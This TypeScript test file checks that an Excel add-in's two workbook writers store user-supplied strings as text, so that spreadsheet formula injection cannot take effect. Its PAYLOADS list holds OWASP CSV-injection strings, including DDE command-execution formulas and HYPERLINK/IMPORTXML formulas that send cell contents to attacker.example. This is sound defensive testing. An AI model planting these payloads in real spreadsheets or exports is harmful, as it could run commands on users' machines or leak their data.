/* eslint-disable office-addins/load-object-before-read, office-addins/call-sync-before-read -- ExcelJS cells, not Office.js proxies */
/**
 * Text stays text, in both writers (issue #9 item 4). Owners and comuni named with the OWASP
 * CSV-injection payloads in the inventory, and the same payloads typed as the plan's Ambito,
 * capofila and additional category: the Office.js writer on the simulated host (which models
 * Excel: such a string becomes a formula unless the cell is formatted as text) and the ExcelJS
 * writer (read back) must store every one of them as text, and only the layout's own formulas as
 * formulas. Before, the Office.js writer passed every cell through Range.formulas.
 */
import ExcelJS from 'exceljs';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { writePlanWorkbook } from '../support/exceljs-writer';
import { defaultParams } from '../../src/core/plan/params';
import { planFromGrid, planSheetLayout } from '../../src/core/pipeline';
import { cellAddress } from '../../src/core/address';
import type { SheetLayout } from '../../src/core/sheet/types';
import { createExcelAdapter } from '../../src/excel/adapter';
import { createSimulatedHost, type SimHost } from '../sim/host';
import { parseInput } from '../sim/model';

/** OWASP "CSV Injection" payloads, and the prefixes Excel reads as formulas. */
export const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  '=HYPERLINK("http://attacker.example/?leak="&A1;"Clicca qui")',
  '=1+1',
  '+SUM(1)',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '-SUM(1)',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@SUM(1)',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '=IMPORTXML(CONCAT("http://attacker.example/?v=";A2);"//a")',
  "'=apostrofo",
  '0123',
  '1/2',
];

function injectedLayout(): SheetLayout {
  const grid: unknown[][] = [['Codice alloggio', 'Ente proprietario', 'Comune', 'Stato alloggio', 'Destinazione']];
  PAYLOADS.forEach((payload, index) => {
    grid.push([`C-${index}`, payload, payload, 'libero', 'SAP']);
  });
  const params = {
    ...defaultParams(2027),
    ambito: PAYLOADS[0],
    capofila: PAYLOADS[4],
    categoria: { nome: PAYLOADS[8], descrizione: PAYLOADS[2] },
  };
  const outcome = planFromGrid({ grid, headerRow: 1, sheetName: 'Inventario' }, params);
  if (!outcome.plan || !outcome.fingerprint) throw new Error('no plan');
  return planSheetLayout({ plan: outcome.plan, fingerprint: outcome.fingerprint }, { generatedAt: new Date() });
}

/** Every text cell of the layout with its address, and every formula cell. */
function cellsOf(layout: SheetLayout): { texts: [string, string][]; formulas: [string, string][] } {
  const texts: [string, string][] = [];
  const formulas: [string, string][] = [];
  layout.cells.forEach((row, r) =>
    row.forEach((cell, c) => {
      if (cell?.formula !== undefined) formulas.push([cellAddress(r + 1, c), cell.formula]);
      else if (typeof cell?.value === 'string' && cell.value !== '') texts.push([cellAddress(r + 1, c), cell.value]);
    }),
  );
  return { texts, formulas };
}

const layout = injectedLayout();
const { texts, formulas } = cellsOf(layout);

test('the layout carries every payload as a text cell (the test would prove nothing otherwise)', () => {
  const shown = texts.map(([, text]) => text).join('\n');
  for (const payload of PAYLOADS.slice(0, 12)) expect(shown).toContain(payload);
  expect(formulas.length).toBeGreaterThan(10);
});

describe('the simulated host behaves like Excel', () => {
  test.each(PAYLOADS.slice(0, 12))('%p written to a General cell becomes a formula', (payload) => {
    expect(parseInput(payload, 'General', false, 'A1').kind).toBe('formula');
    expect(parseInput(payload, 'General', true, 'A1').kind).toBe('formula');
  });
  test.each(PAYLOADS)('%p written to a text cell (@) stays text, through values and formulas', (payload) => {
    expect(parseInput(payload, '@', false, 'A1')).toEqual({ kind: 'value', value: payload });
    expect(parseInput(payload, '@', true, 'A1')).toEqual({ kind: 'value', value: payload });
  });
  test('a leading apostrophe keeps text as text and is not stored', () => {
    expect(parseInput("'=1+1", 'General', true, 'A1')).toEqual({ kind: 'value', value: '=1+1' });
  });
});

describe('the Office.js writer on the simulated host', () => {
  let sim: SimHost;
  beforeEach(() => {
    sim = createSimulatedHost({ displayLanguage: 'it-IT' });
    sim.install();
  });
  afterEach(() => sim.uninstall());

  test('stores every text as text and only the layout formulas as formulas', async () => {
    const { sheetName } = await createExcelAdapter().writePlanSheet(layout);
    const sheet = sim.workbook.sheet(sheetName);
    for (const [address, text] of texts) {
      const cell = sheet.cell(address);
      expect({ address, formula: cell.formula, value: cell.value }).toEqual({
        address,
        formula: undefined,
        value: text,
      });
    }
    for (const [address, formula] of formulas) expect(sheet.cell(address).formula).toBe(formula);
  });
});

describe('the ExcelJS writer, read back', () => {
  test('stores every text as a string cell and only the layout formulas as formulas', async () => {
    const file = path.join(mkdtempSync(path.join(tmpdir(), 'casa-text-')), 'piano.xlsx');
    await writePlanWorkbook(layout, file);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(file);
    const sheet = workbook.worksheets[0];
    for (const [address, text] of texts) {
      const cell = sheet.getCell(address);
      expect({ address, type: cell.type, value: cell.value, format: cell.numFmt }).toEqual({
        address,
        type: ExcelJS.ValueType.String,
        value: text,
        format: '@',
      });
    }
    for (const [address, formula] of formulas) expect(`=${sheet.getCell(address).formula}`).toBe(formula);
  }, 30_000); // writing and reading a workbook: slower on a machine busy with other runs
});
